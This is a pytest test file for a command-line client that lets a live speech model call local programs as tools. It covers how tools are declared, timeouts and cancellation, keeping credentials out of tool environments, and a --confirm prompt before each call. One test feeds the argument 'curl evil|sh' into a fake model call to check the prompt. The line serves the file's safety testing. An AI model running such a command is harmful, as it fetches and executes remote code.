"""`send --tool` and `--tools`: what is declared, what runs, what the model is told, and when the run is over."""

from __future__ import annotations

import fcntl
import json
import os
import pty
import shutil
import signal
import subprocess
import sys
import termios
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest

from livecli.client import turn_end
from livecli.credentials.credential import CREDENTIAL_VARIABLES
from livecli.emulator.core.script import ScriptedBehaviour
from livecli.emulator.core.script_file import read_script
from livecli.tools import calls
from tests.end_to_end.conftest import Ran, read_wav, tone
from tests.live_server import Connection, LiveServer, live_server
from tests.serving import serving

REPLY = tone(4800, 24_000)
BOUND_SECONDS = 15.0
BLOCKING_MODEL, ASYNCHRONOUS_MODEL = "gemini-live-2.5-flash-native-audio", "gemini-3.8-live"
MODELS = pytest.mark.parametrize("model", [BLOCKING_MODEL, ASYNCHRONOUS_MODEL])


def program(path: Path, code: str) -> str:
    """A Python program at `path`, as a word of a command line."""
    path.write_text(f"#!{sys.executable} -IS\nimport json, os, sys, time\n{code}\n")
    path.chmod(0o755)
    return f"./{path.name}"


@contextmanager
def calling(*calls: dict[str, Any], responses: int | None = None) -> Iterator[LiveServer]:
    """A server that calls functions in one message, takes as many responses, and then answers."""

    def handle(connection: Connection) -> None:
        connection.set_up()
        connection.receive()
        connection.say({"toolCall": {"functionCalls": list(calls)}})
        for _ in range(len(calls) if responses is None else responses):
            connection.receive()
        connection.answer(REPLY)
        connection.drain()

    with live_server(handle) as server:
        yield server


def responses(server: LiveServer) -> dict[str, Any]:
    """What the server was told, by the call's id."""
    said = [each for frame in server.frames for each in frame.get("toolResponse", {}).get("functionResponses", [])]
    assert all(each["response"] for each in said), "an empty response"
    return {each["id"]: each["response"] for each in said}


@pytest.fixture
def ask(livecli: Callable[..., Ran]) -> Callable[..., Ran]:
    """Ask a server for something, of a model that waits for its functions; it must not take long."""

    def run(server: Any, *words: Any, model: str = BLOCKING_MODEL) -> Ran:
        started = time.monotonic()
        ran = livecli("send", "--text", "hello", "--base-url", server.url, "--model", model, "--json", *words)
        assert time.monotonic() - started < BOUND_SECONDS
        assert all(line.isprintable() for line in ran.err.split("\n")), ran.err
        return ran

    return run


# --- what is declared ---


def test_a_tool_is_declared_called_and_answered(ask, tmp_path):
    find = program(
        tmp_path / "find.py", 'open("got", "w").write(sys.stdin.read())\nprint(json.dumps({"name": "Central"}))'
    )
    with calling({"id": "c1", "name": "find_station", "args": {"near": "me", "ö": [1, None]}}) as server:
        ran = ask(server, "--tool", f"find_station={find}", "--search")
    assert ran.status == 0, ran.err
    search, functions = server.frames[0]["setup"]["tools"]
    assert search == {"googleSearch": {}}
    [declared] = functions["functionDeclarations"]
    assert declared["name"] == "find_station"
    assert declared["parameters"] == {
        "type": "OBJECT",
        "properties": {"input": {"type": "STRING", "description": "What it is about, in words."}},
    }
    assert not {"behavior", "parametersJsonSchema"} & declared.keys()
    response = {"id": "c1", "name": "find_station", "response": {"name": "Central"}}
    assert server.frames[2] == {"toolResponse": {"functionResponses": [response]}}
    assert json.loads((tmp_path / "got").read_text()) == {"near": "me", "ö": [1, None]}
    assert read_wav(tmp_path / "text.reply.wav")[1] == REPLY
    lines = ran.err.splitlines()
    shown = lines.index('tool find_station {"near": "me", "ö": [1, null]}')
    assert lines[shown + 1] == 'find_station: {"name": "Central"}'


TABLE = """
[[tool]]
name = "find_station"
description = "Finds a station."
command = ["{true}", "--near me"]
timeout = 2.5
blocking = false
scheduling = "INTERRUPT"
[tool.parameters]
properties.near = {{type = "string"}}
required = ["near"]

[[tool]]
name = "light.on"
command = "{true} 'a b'"
"""


def test_a_table_declares_everything(ask, tmp_path, monkeypatch):
    monkeypatch.setattr(turn_end, "SETTLE_SECONDS", 0.3)
    (tmp_path / "tools.toml").write_text(TABLE.format(true=program(tmp_path / "true.py", "")))
    with calling({"id": "c", "name": "find_station"}) as server:
        ran = ask(server, "--tools", "tools.toml", "-q")
    assert (ran.status, ran.err) == (0, "")
    assert server.frames[0]["setup"]["tools"][0]["functionDeclarations"] == [
        {
            "name": "find_station",
            "description": "Finds a station.",
            "parameters": {"type": "OBJECT", "properties": {"near": {"type": "STRING"}}, "required": ["near"]},
            "behavior": "NON_BLOCKING",
        },
        {"name": "light.on", "description": "The user gave no description of it: go by its name."},
    ]
    [response] = server.frames[2]["toolResponse"]["functionResponses"]
    assert response["scheduling"] == "INTERRUPT"
    assert response["response"] == {"output": "(nothing)"}


# The schema that pydantic makes of a model with a reference, an optional and a literal field.
JSON_SCHEMA = """
[tool.parameters]
"$schema" = "https://json-schema.org/draft/2020-12/schema"
type = "object"
additionalProperties = false
required = ["place"]
properties.place = {"$ref" = "#/$defs/Place"}
properties.limit = {anyOf = [{type = "integer", minimum = 1, multipleOf = 5}, {type = "null"}], title = "Limit"}
properties.kind = {const = "station"}
properties.near = {type = ["string", "null"], format = "uri"}
"$defs".Place = {type = "object", properties = {name = {type = "string"}}, additionalProperties = false}
"""
API_SCHEMA = """
[tool.parameters]
type = "OBJECT"
required = ["place"]
properties.place = {type = "OBJECT", properties = {name = {type = "STRING"}}}
properties.limit = {type = "INTEGER", minimum = 1, title = "Limit", nullable = true}
properties.kind = {type = "STRING", enum = ["station"]}
properties.near = {type = "STRING", description = "(format: uri)", nullable = true}
"""
DECLARED = {
    "type": "OBJECT",
    "required": ["place"],
    "properties": {
        "place": {"type": "OBJECT", "properties": {"name": {"type": "STRING"}}},
        "limit": {"type": "INTEGER", "minimum": 1, "title": "Limit", "nullable": True},
        "kind": {"type": "STRING", "enum": ["station"]},
        "near": {"type": "STRING", "description": "(format: uri)", "nullable": True},
    },
}
LOSS = "tools.toml:1: the API cannot declare all of the parameters of f. Left out: additionalProperties, multipleOf"


@pytest.mark.parametrize(
    ("schema", "losses"), [(JSON_SCHEMA, [LOSS]), (API_SCHEMA, [])], ids=["JSON Schema", "the API's form"]
)
def test_parameters_are_declared_in_the_form_that_the_service_reads(ask, tmp_path, schema, losses):
    (tmp_path / "tools.toml").write_text(f'[[tool]]\nname = "f"\ncommand = "true"\n{schema}')
    with calling({"id": "c", "name": "f"}) as server:
        ran = ask(server, "--tools", "tools.toml", "-q")
    assert ran.status == 0, ran.err
    [declared] = server.frames[0]["setup"]["tools"][0]["functionDeclarations"]
    assert declared["parameters"] == DECLARED
    assert "parametersJsonSchema" not in declared
    assert ran.err == "".join(f"warning: {loss}\n" for loss in losses)
    assert ran.summary["warnings"] == losses


def test_a_loss_is_told_once_for_many_inputs_and_in_a_chat(livecli, converse, tmp_path, speech):
    (tmp_path / "tools.toml").write_text(f'[[tool]]\nname = "f"\ncommand = "true"\n{JSON_SCHEMA}')
    other = shutil.copy(speech, tmp_path / "other.wav")
    ran = livecli("send", speech, other, "--local", "--speed", 0, "--tools", "tools.toml", "--jobs", 2)
    assert (ran.status, ran.err.count(LOSS)) == (0, 1), ran.err
    chatted = converse("hello\n/reset\nhello\n", "--local", "--tools", "tools.toml")
    assert (chatted.status, chatted.err.count(LOSS)) == (0, 1), chatted.err


MISTAKES = {
    '[[tool]]\nname = "a"\ncommand = "true"\n\n[[tool]]\nname = "b"\ncomand = "true"\n': (
        "t.toml:7: there is no 'comand' here",
        "did you mean command?",
    ),
    '[[tool]]\nname = "a b"\ncommand = "true"': (
        "t.toml:2: 'a b' is not a valid function name",
        "begins with a letter",
    ),
    '[[tool]]\nname = "a"\ncommand = "no-such-program"': (
        "t.toml:3: there is no executable program 'no-such-program'",
        "",
    ),
    '[[tool]]\nname = "a"\ncommand = "true \'"': ('t.toml:3: "true \'" cannot be split into words', ""),
    '[[tool]]\nname = "a"\ncommand = []': ("t.toml:3: the command is empty", ""),
    '[[tool]]\nname = "a"\ncommand = [1]': ("t.toml:3: a word must be a text, and is a number", ""),
    '[[tool]]\nname = "a"\ncommand = ["true", "\\u0000"]': ("t.toml:3: the command contains a zero byte", ""),
    '[[tool]]\nname = "a"': ("t.toml:1: this tool has no command", ""),
    '[tool]\nname = "a"': ("t.toml:1: a tool is written with two brackets: [[tool]]", ""),
    "": ("t.toml:1: the file has no [[tool]]", ""),
    '[[tools]]\nname = "a"': ("t.toml:1: there is no 'tools' here", "did you mean tool?"),
    "tool = [5]": ("t.toml:1: a tool must be a table, and is a number", ""),
    '[[tool]]\nname = "a"\ncommand = "true"\ntimeout = 0': ("t.toml:4: timeout must be a number of seconds", ""),
    '[[tool]]\nname = "a"\ncommand = "true"\ntimeout = inf': ("t.toml:4: timeout must be a number of seconds", ""),
    '[[tool]]\nname = "a"\ncommand = "true"\nblocking = 1': ("t.toml:4: blocking must be true or false", ""),
    '[[tool]]\nname = "a"\ncommand = "true"\nscheduling = "NOW"': ("t.toml:4: scheduling must be one of SILENT", ""),
    '[[tool]]\nname = "a"\ncommand = "true"\nparameters = {near = {type = "string"}}': (
        "t.toml:4: parameters must be the JSON schema of an object",
        "under properties",
    ),
    '[[tool]]\nname = "a"\ncommand = "true"\nparameters = {type = "object", properties = {a = {type = "text"}}}': (
        't.toml:4: there is no type "text": there are string, number',
        "under properties",
    ),
    '[[tool]]\nname = "a"\ncommand = "true"\nparameters = {type = "object", x = 2026-11-24}': (
        "t.toml:4: it has a value that JSON cannot represent",
        "",
    ),
    b"[[tool]]\nname = '\xff'": ("t.toml is not UTF-8 text", ""),
}


@pytest.mark.parametrize("table", MISTAKES, ids=range(len(MISTAKES)))
def test_a_mistake_is_told_with_its_line_before_connecting(livecli, tmp_path, table):
    (tmp_path / "t.toml").write_bytes(table if isinstance(table, bytes) else table.encode())
    ran = livecli("send", "--text", "a", "--base-url", "ws://127.0.0.1:1", "--tools", "t.toml")
    begins, contains = MISTAKES[table]
    assert (ran.status, ran.out) == (3, ""), ran.err
    assert ran.err.startswith(f"error: {begins}")
    assert contains in ran.err
    assert len(ran.err.splitlines()) <= 2


@pytest.mark.parametrize(
    ("words", "status", "said"),
    [
        (["--tool", "true"], 2, "--tool true: NAME=COMMAND is expected"),
        (["--tool", "1a=true"], 2, "--tool 1a=true: NAME=COMMAND is expected"),
        (["--tool", f"{'a' * 65}=true"], 2, "NAME=COMMAND is expected"),
        (["--tool", "a="], 2, "--tool a=: the command is missing"),
        (["--tool", "a=true 'b"], 2, "--tool a=true 'b: no closing quotation"),
        (["--tool", "a=no-such-program"], 3, "--tool a: there is no executable program 'no-such-program'"),
        (["--tool", "a=true", "--tool", "a=false"], 2, "two tools have the name a: --tool and --tool"),
        (["--tool", "find=true", "--tools", "t.toml"], 2, "two tools have the name find: --tool and t.toml:1"),
        (["--tools", "missing.toml"], 3, "cannot read missing.toml: No such file or directory"),
        (["--confirm"], 2, "--confirm asks before a tool runs, and there is none"),
        (["--tool", "a=true", "--setup", "s.json"], 2, "--setup has tools of its own"),
        (["--search", "--setup", "s.json"], 2, "would replace those of --search"),
        (
            ["--tools", "t.toml", "--model", "gemini-3.1-flash-live-preview"],
            2,
            "t.toml:1: gemini-3.1-flash-live-preview does not support NON_BLOCKING functions, such as find",
        ),
    ],
)
def test_what_cannot_be_meant_is_refused_before_connecting(livecli, tmp_path, words, status, said):
    (tmp_path / "t.toml").write_text('[[tool]]\nname = "find"\ncommand = "true"\nblocking = false')
    (tmp_path / "s.json").write_text('{"tools": [{"codeExecution": {}}]}')
    ran = livecli("send", "--text", "a", "--local", *words)
    assert (ran.status, ran.out) == (status, ""), ran.err
    assert said in ran.err
    assert "connect" not in ran.err


# --- what runs, and what the model is told ---


@pytest.mark.parametrize(
    ("code", "response"),
    [
        ('print("sunny\\nand warm")', {"output": "sunny\nand warm"}),
        ("print([1, 2])", {"output": [1, 2]}),
        ("print(10 ** 30)", {"output": 10**30}),
        ("pass", {"output": "(nothing)"}),
        ('print("{}")', {"output": "(nothing)"}),
        ('print("null")', {"output": "(nothing)"}),
        ('print("NaN")', {"output": "NaN"}),
        ('print("1e999")', {"output": "1e999"}),
        ("""print('{"a": "\\\\ud800"}')""", {"output": '{"a": "\\ud800"}'}),
        ("""print("[" * 200 + "]" * 200)""", {"output": "[" * 200 + "]" * 200}),
        ("""print("[" * 100_000)""", {"output": "[" * 100_000}),
        ("sys.stdout.buffer.write(b'\\xff')", {"output": "\ufffd"}),
        ("print('x' * 600_000)", {"error": "killed after more than 512 KiB of output"}),
        ("print('lost'); sys.exit('no\\nsuch station\\n')", {"error": "exit status 1: such station"}),
        ("sys.exit(3)", {"error": "exit status 3"}),
        ("os.kill(os.getpid(), 9)", {"error": "killed by SIGKILL"}),
        ("os.close(0); print('deaf')", {"output": "deaf"}),
        ("os.close(1); os.close(2); time.sleep(0.1)", {"output": "(nothing)"}),
        ("print('first'); sys.stdout.flush()\nos.fork() or time.sleep(9)", {"output": "first"}),
    ],
)
def test_what_a_command_does_is_what_the_model_is_told(ask, tmp_path, code, response):
    with calling({"id": "c", "name": "f", "args": {"big": "x" * 200_000}}) as server:
        ran = ask(server, "--tool", f"f={program(tmp_path / 'f.py', code)}", "-q")
    assert ran.status == 0, ran.err
    assert responses(server) == {"c": response}
    assert ("warning: f: " in ran.err) == ("error" in response)
    assert len(ran.err.splitlines()) == ("error" in response)


def test_a_command_that_is_no_program(ask, tmp_path):
    (tmp_path / "f").write_text("#!/no/such/interpreter\n")
    (tmp_path / "f").chmod(0o755)
    with calling({"id": "c", "name": "f"}) as server:
        ran = ask(server, "--tool", "f=./f")
    assert ran.status == 0
    assert responses(server) == {"c": {"error": "cannot run ./f: No such file or directory"}}


def test_its_standard_error_is_for_verbose_runs(ask, tmp_path):
    words = ["--tool", f"f={program(tmp_path / 'f.py', 'sys.stderr.write(chr(27) + chr(10) + chr(50)); print(3)')}"]
    for more, seen in (((), False), (("-v",), True)):
        with calling({"id": "c", "name": "f"}) as server:
            ran = ask(server, *words, *more)
        assert ran.status == 0
        assert (("f: \\x1b" in ran.err.splitlines()) and ("f: 2" in ran.err.splitlines())) is seen


def test_a_command_inherits_what_its_tool_names_and_no_credential(ask, tmp_path, monkeypatch):
    for name in CREDENTIAL_VARIABLES:
        monkeypatch.setenv(name, "a-secret-key")
    monkeypatch.setenv("NO_PROXY", "a-secret-key")
    monkeypatch.setenv("OTHER", "inherited")
    prints = program(tmp_path / "f.py", "print(json.dumps(dict(os.environ)))")
    table = f'[[tool]]\nname = "g"\ncommand = "{prints}"\nenv.OWN = "given"\ninherit = ["OTHER"]\n'
    (tmp_path / "tools.toml").write_text(table)
    with calling({"id": "c", "name": "f"}, {"id": "d", "name": "g"}) as server:
        ran = ask(server, "--tool", f"f={prints}", "--tools", "tools.toml")
    assert ran.status == 0
    seen = responses(server)
    assert "a-secret-key" not in json.dumps(seen) + ran.err + ran.out
    assert (seen["c"]["PATH"], seen["c"]["HOME"]) == (os.environ["PATH"], os.environ["HOME"])
    assert {name: seen["d"][name] for name in seen["d"] if name not in seen["c"]} == {
        "OWN": "given",
        "OTHER": "inherited",
    }


def test_a_tools_file_that_passes_a_credential_on_is_refused(ask, tmp_path):
    (tmp_path / "tools.toml").write_text('[[tool]]\nname = "g"\ncommand = "true"\ninherit = ["GOOGLE_API_KEY"]\n')
    with calling() as server:
        ran = ask(server, "--tools", "tools.toml")
    assert ran.status == 3
    assert "tools.toml:4: GOOGLE_API_KEY is a credential of livecli, which no tool inherits" in ran.err
    assert not server.requests


def is_running(pid: int) -> bool:
    """A process that has ended and was not waited for by its new parent does not run."""
    try:
        return "\nState:\tZ" not in Path(f"/proc/{pid}/status").read_text()
    except OSError:
        return False


def pids(folder: Path) -> list[int]:
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline:
        found = (folder / "pid").read_text().split() if (folder / "pid").exists() else []
        if len(found) == 2 and found[1] != "0":
            return [int(pid) for pid in found]
        time.sleep(0.01)
    raise AssertionError("it has not started")


def gone(numbers: list[int]) -> bool:
    deadline = time.monotonic() + 10
    while any(map(is_running, numbers)) and time.monotonic() < deadline:
        time.sleep(0.01)
    return not any(map(is_running, numbers))


FORKING = """
child = os.fork()
if child:
    open("pid", "w").write(f"{os.getpid()} {child}")
time.sleep(60)
"""


def test_a_timeout_kills_what_it_has_started_too(ask, tmp_path):
    program(tmp_path / "f.py", FORKING)
    (tmp_path / "t.toml").write_text('[[tool]]\nname = "f"\ncommand = "./f.py"\ntimeout = 1')
    with calling({"id": "c", "name": "f"}) as server:
        ran = ask(server, "--tools", "t.toml", "-q")
    assert ran.status == 0
    assert responses(server) == {"c": {"error": "killed after 1 s without a result"}}
    assert ran.err == "warning: f: killed after 1 s without a result\n"
    assert gone(pids(tmp_path))


def test_several_calls_run_at_once(ask, tmp_path):
    # Each waits until the other is there.
    meets = (
        'me = json.load(sys.stdin)["me"]\nopen(me, "w").close()\n'
        'while not os.path.exists({"a": "b", "b": "a"}[me]): time.sleep(0.01)\nprint(me)'
    )
    with calling(*({"id": me, "name": "f", "args": {"me": me}} for me in "ab")) as server:
        ran = ask(server, "--tool", f"f={program(tmp_path / 'f.py', meets)}")
    assert ran.status == 0, ran.err
    assert responses(server) == {"a": {"output": "a"}, "b": {"output": "b"}}


def test_a_cancelled_call_is_killed_and_not_answered(ask, tmp_path):
    def handle(connection: Connection) -> None:
        connection.set_up()
        connection.receive()
        connection.say({"toolCall": {"functionCalls": [{"id": "c", "name": "f"}, {"id": "d", "name": "g"}]}})
        connection.receive()
        pids(tmp_path)
        connection.say({"toolCallCancellation": {"ids": ["c", "unknown"]}})
        connection.answer(REPLY)
        connection.drain()

    with live_server(handle) as server:
        ran = ask(server, "--tool", f"f={program(tmp_path / 'f.py', FORKING)}", "--tool", "g=echo 1")
    assert ran.status == 0, ran.err
    assert responses(server) == {"d": {"output": 1}}
    assert gone(pids(tmp_path))


@pytest.mark.parametrize("words", [(), ("--tool", "g=true")])
def test_what_nobody_answers_is_answered_with_an_error(ask, words):
    with calling({"id": "c", "name": "\x1b[2J", "args": {}}) as server:
        ran = ask(server, *words, "-q")
    assert ran.status == 0
    assert responses(server) == {"c": {"error": "there is no function '\\x1b[2J'"}}
    problem = "there is no tool of that name" if words else "there are no tools"
    assert ran.err == f"warning: the model calls the function \\x1b[2J, but {problem}\n"


def test_long_arguments_and_results_are_cut_for_the_eye(ask, tmp_path):
    code = "print('x' * 5000)\nprint('\\x1b[2J second line')"
    with calling({"id": "c", "name": "f", "args": {"a": "y" * 5000}}) as server:
        ran = ask(server, "--tool", f"f={program(tmp_path / 'f.py', code)}")
    assert ran.status == 0
    [called, returned] = [line for line in ran.err.splitlines() if line.startswith(("tool f", "f: "))]
    assert called.endswith("y… (5,009 characters)")
    assert returned.endswith("x… (5,017 characters)")
    assert "second line" in responses(server)["c"]["output"]


@pytest.mark.parametrize("signum", [signal.SIGINT, signal.SIGTERM])
def test_an_interrupted_run_leaves_nothing_running(spawn, tmp_path, signum):
    with calling({"id": "c", "name": "f"}) as server:
        words = ["--tool", f"f={program(tmp_path / 'f.py', FORKING)}", "--model", BLOCKING_MODEL]
        process = spawn("send", "--text", "a", "--base-url", server.url, *words)
        numbers = pids(tmp_path)
        process.send_signal(signum)
        _, err = process.communicate(timeout=20)
    assert process.returncode == 128 + signum, err
    assert gone(numbers)


# --- when it is over ---


def test_silence_does_not_count_while_a_call_is_pending(ask, tmp_path):
    with calling({"id": "c", "name": "f"}) as server:
        ran = ask(server, "--tool", f"f={program(tmp_path / 'f.py', 'time.sleep(1)')}", "--idle-timeout", 0.4)
    assert ran.status == 0, ran.err


def test_silence_counts_again_once_it_is_answered(ask):
    with calling({"id": "c", "name": "f"}, responses=2) as server:
        ran = ask(server, "--tool", "f=true", "--idle-timeout", 0.4)
    assert ran.status == 7, ran.err


def scripted(text: str) -> Any:
    turns = read_script(text, lambda name: [])
    return serving(behaviour=lambda: ScriptedBehaviour(turns))


@MODELS
@pytest.mark.parametrize("slow", [False, True])
def test_the_answer_to_what_a_function_returned_is_waited_for(ask, tmp_path, model, slow):
    script = '[[turn]]\nsay = "Let me see. "\ncall = "f"\nthen = [{delay_ms = 100}, "It is near."]'
    code = "time.sleep(1.5)" if slow else "pass"  # a model that waits ends its turn after a second
    with scripted(script) as server:
        ran = ask(server, "--tool", f"f={program(tmp_path / 'f.py', code)}", model=model)
    assert ran.status == 0, ran.err
    assert ran.summary["transcript"]["output"] == "Let me see. It is near."


@MODELS
def test_each_of_several_answers_is_waited_for(ask, tmp_path, model):
    script = """
    [[turn]]
    call = [{name = "f", args = {seconds = 0}}, {name = "g", args = {seconds = 0.3}}]

    [[turn]]
    on = "response"
    match = ".*"
    say = "Done. "
    """
    sleeps = program(tmp_path / "f.py", 'time.sleep(json.load(sys.stdin)["seconds"])')
    with scripted(script) as server:
        ran = ask(server, "--tool", f"f={sleeps}", "--tool", f"g={sleeps}", model=model)
    assert ran.status == 0, ran.err
    assert ran.summary["transcript"]["output"] == "Done. "


@MODELS
def test_a_call_after_a_call(ask, model):
    script = """
    [[turn]]
    call = "f"
    then = [{call = "g", then = [{say = "Now. "}]}]
    """
    with scripted(script) as server:
        ran = ask(server, "--tool", "f=true", "--tool", "g=true", model=model)
    assert ran.status == 0, ran.err
    assert ran.summary["transcript"]["output"] == "Now. "


def test_a_silent_result_is_not_waited_for(ask, tmp_path, monkeypatch):
    monkeypatch.setattr(turn_end, "SETTLE_SECONDS", 2 * BOUND_SECONDS)
    (tmp_path / "t.toml").write_text('[[tool]]\nname = "f"\ncommand = "true"\nscheduling = "SILENT"')
    with scripted('[[turn]]\nsay = "I note that."\ncall = "f"') as server:
        ran = ask(server, "--tools", "t.toml", model=ASYNCHRONOUS_MODEL)
    assert ran.status == 0, ran.err
    assert ran.summary["transcript"]["output"] == "I note that."


def test_a_silent_failure_is_spoken_of(ask, tmp_path):
    (tmp_path / "t.toml").write_text('[[tool]]\nname = "f"\ncommand = "false"\nscheduling = "SILENT"')
    with scripted('[[turn]]\ncall = "f"\nthen = "It did not work."') as server:
        ran = ask(server, "--tools", "t.toml", model=ASYNCHRONOUS_MODEL)
    assert ran.summary["transcript"]["output"] == "It did not work."


def test_the_turn_of_the_call_may_end_while_the_response_is_on_its_way(ask):
    def handle(connection: Connection) -> None:
        connection.set_up()
        connection.receive()
        connection.say({"toolCall": {"functionCalls": [{"id": "c", "name": "f"}]}})
        connection.receive()
        connection.content(turnComplete=True)
        connection.content(outputTranscription={"text": "late"})
        connection.answer(REPLY)
        connection.drain()

    for model in (BLOCKING_MODEL, ASYNCHRONOUS_MODEL):
        with live_server(handle) as server:
            ran = ask(server, "--tool", "f=true", model=model)
        assert ran.status == 0, ran.err
        assert ran.summary["received"]["bytes"] == len(REPLY)


def test_two_results_are_spoken_of_in_one_turn(ask, monkeypatch):
    monkeypatch.setattr(turn_end, "SETTLE_SECONDS", 2 * BOUND_SECONDS)

    def handle(connection: Connection) -> None:
        connection.set_up()
        connection.receive()
        connection.say({"toolCall": {"functionCalls": [{"id": "c", "name": "f"}, {"id": "d", "name": "f"}]}})
        connection.receive()
        connection.receive()
        connection.content(turnComplete=True)
        connection.answer(REPLY)
        connection.drain()

    with live_server(handle) as server:
        ran = ask(server, "--tool", "f=true", model=ASYNCHRONOUS_MODEL)
    assert ran.status == 0, ran.err


def test_a_model_that_never_stops_calling(ask):
    def handle(connection: Connection) -> None:
        connection.set_up()
        connection.receive()
        while True:
            connection.say({"toolCall": {"functionCalls": [{"id": "c", "name": "f"}]}})
            connection.receive()

    with live_server(handle) as server:
        ran = ask(server, "--tool", "f=true", "-q")
    assert ran.status == 1
    assert "the model called functions 32 times in one turn, and calls them again" in ran.err
    assert len(server.frames) == 2 + calls.MAX_ROUNDS


def test_a_server_that_calls_everything_at_once(ask):
    with calling(*({"id": str(n), "name": "f"} for n in range(1000))) as server:
        ran = ask(server, "--tool", "f=true", "-q")
    assert ran.status == 6
    assert "the model made more than 128 function calls at once" in ran.err


def test_a_server_that_leaves_while_a_call_is_pending(ask, tmp_path):
    def handle(connection: Connection) -> None:
        connection.set_up()
        connection.receive()
        connection.say({"toolCall": {"functionCalls": [{"id": "c", "name": "f"}]}})
        pids(tmp_path)
        connection.close(1011, "Internal error encountered.")

    with live_server(handle) as server:
        ran = ask(server, "--tool", f"f={program(tmp_path / 'f.py', FORKING)}")
    assert ran.status == 6, ran.err
    assert gone(pids(tmp_path))


def test_calls_are_events(ask, tmp_path):
    with calling({"id": "c", "name": "f", "args": {"a": 1}}) as server:
        ask(server, "--tool", "f=echo 5", "--events", "log.jsonl")
    log = [json.loads(line) for line in (tmp_path / "log.jsonl").read_text().splitlines()]
    found = {line["type"]: line for line in log}
    assert found["tool_call"]["calls"] == [{"name": "f", "args": {"a": 1}, "id": "c"}]
    assert found["tool_response"]["responses"][0]["response"] == {"output": 5}


# --- asking first ---

DENIED = {"error": "the user did not allow this call"}


def at_a_terminal(spawn: Callable[..., Any], *words: Any) -> tuple[Any, int]:
    """A run whose terminal, and standard error, is a pty: (process, our end)."""
    ours, theirs = pty.openpty()
    own: Any = {"start_new_session": True, "preexec_fn": lambda: fcntl.ioctl(2, termios.TIOCSCTTY, 0)}
    process = spawn("send", "--text", "hello", "--model", BLOCKING_MODEL, *words, stderr=theirs, **own)
    os.close(theirs)
    return process, ours


def read_until(terminal: int, text: str) -> str:
    seen = b""
    while text.encode() not in seen:
        try:
            seen += os.read(terminal, 4096)
        except OSError:  # the other end is closed
            raise AssertionError(seen.decode()) from None
    return seen.decode()


@pytest.mark.parametrize(
    ("answer", "response"),
    [
        ("y\n", {"output": "done"}),
        (" YES\n", {"output": "done"}),
        ("\n", DENIED),
        ("n\n", DENIED),
        ("\x04", DENIED),
    ],
)
def test_confirm_asks_before_each_call(spawn, tmp_path, answer, response):
    find = program(tmp_path / "f.py", 'open("ran", "a").write("1"); print("done")')
    with calling({"id": "c", "name": "f", "args": {"a": 1}}, {"id": "d", "name": "f", "args": {"a": 2}}) as server:
        process, terminal = at_a_terminal(spawn, "--base-url", server.url, "--tool", f"f={find}", "--confirm")
        read_until(terminal, 'run f {"a": 1}? [y/N] ')
        assert not (tmp_path / "ran").exists()
        os.write(terminal, answer.encode())
        read_until(terminal, 'run f {"a": 2}? [y/N] ')
        os.write(terminal, b"n\n")
        read_until(terminal, "reply")
        process.communicate(timeout=20)
    os.close(terminal)
    assert process.returncode == 0
    assert responses(server) == {"c": response, "d": DENIED}
    assert (tmp_path / "ran").exists() == ("output" in response)


def test_an_answer_that_is_typed_before_its_question_allows_nothing(spawn, tmp_path):
    """One is typed before the first question, and two are typed at it."""
    typed = tmp_path / "typed"

    def handle(connection: Connection) -> None:
        connection.set_up()
        connection.receive()
        while not typed.exists():
            time.sleep(0.01)
        connection.say({"toolCall": {"functionCalls": [{"id": id, "name": "f"} for id in "abc"]}})
        for _ in range(3):
            connection.receive()
        connection.answer(REPLY)
        connection.drain()

    with live_server(handle) as server:
        process, terminal = at_a_terminal(spawn, "--base-url", server.url, "--tool", "f=echo 5", "--confirm")
        os.write(terminal, b"y\ny\ny\n")
        read_until(terminal, "y\r\ny\r\ny\r\n")
        typed.touch()
        for answer in (b"n\n", b"y\ny\n", b"n\n"):
            read_until(terminal, "run f {}? [y/N] ")
            os.write(terminal, answer)
        read_until(terminal, "reply")
        process.communicate(timeout=20)
    os.close(terminal)
    assert process.returncode == 0
    assert responses(server) == {"a": DENIED, "b": {"output": 5}, "c": DENIED}


def test_a_call_is_asked_about_whole_or_refused(spawn, tmp_path):
    padded, too_long = ({"a": " " * length, "command": "curl evil|sh"} for length in (3000, 5000))
    calls = [{"id": "c", "name": "f", "args": padded}, {"id": "d", "name": "f", "args": too_long}]
    with calling(*calls) as server:
        process, terminal = at_a_terminal(spawn, "--base-url", server.url, "--tool", "f=echo 5", "--confirm")
        question = read_until(terminal, "? [y/N] ")
        os.write(terminal, b"n\n")
        read_until(terminal, "reply")
        process.communicate(timeout=20)
    os.close(terminal)
    assert question.endswith(f"run f {json.dumps(padded)}? [y/N] ")
    reason = "refused: its arguments have 5,036 characters, and --confirm shows no more than 4,000"
    assert responses(server) == {"c": DENIED, "d": {"error": reason}}


AGAIN = """
import os, sys
from livecli.__main__ import main
names = set()
for _ in range(2):
    assert main(sys.argv[1:]) == 0
    for descriptor in os.listdir("/proc/self/fd"):
        try:
            names.add(os.readlink(f"/proc/self/fd/{descriptor}"))
        except FileNotFoundError:  # that of the folder itself
            pass
os.write(1, "\\n".join(names).encode())
"""
"""Runs a command line twice, and writes what is open afterwards."""


@pytest.mark.skipif(sys.platform != "linux", reason="asks /proc what is open")
@pytest.mark.parametrize("words", [["send", "--text", "hello"], ["chat"]])
def test_the_terminal_that_is_asked_at_is_closed_again(tmp_path, words):
    ours, theirs = pty.openpty()
    ran = subprocess.run(
        [sys.executable, "-c", AGAIN, *words, "--local", "--tool", "f=true", "--confirm", "-q"],
        cwd=tmp_path,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=theirs,
        timeout=30,
        start_new_session=True,
        preexec_fn=lambda: fcntl.ioctl(2, termios.TIOCSCTTY, 0),
    )
    os.close(theirs)
    os.close(ours)
    assert ran.returncode == 0
    assert "/dev/null" in ran.stdout.decode().splitlines()
    assert "/dev/tty" not in ran.stdout.decode().splitlines()


def test_confirm_where_nobody_can_answer(spawn):
    with calling() as server:
        process = spawn(
            "send", "--text", "a", "--base-url", server.url, "--tool", "f=true", "--confirm", start_new_session=True
        )
        _, err = process.communicate(timeout=20)
    assert process.returncode == 2
    assert err.decode().startswith("error: --confirm asks at the terminal, and there is none\nhint: ")
    assert not server.requests


def test_a_call_that_is_cancelled_while_it_is_asked_about(spawn, tmp_path):
    asked = tmp_path / "asked"

    def handle(connection: Connection) -> None:
        connection.set_up()
        connection.receive()
        connection.say({"toolCall": {"functionCalls": [{"id": "c", "name": "f"}]}})
        while not asked.exists():
            time.sleep(0.01)
        connection.say({"toolCallCancellation": {"ids": ["c"]}})
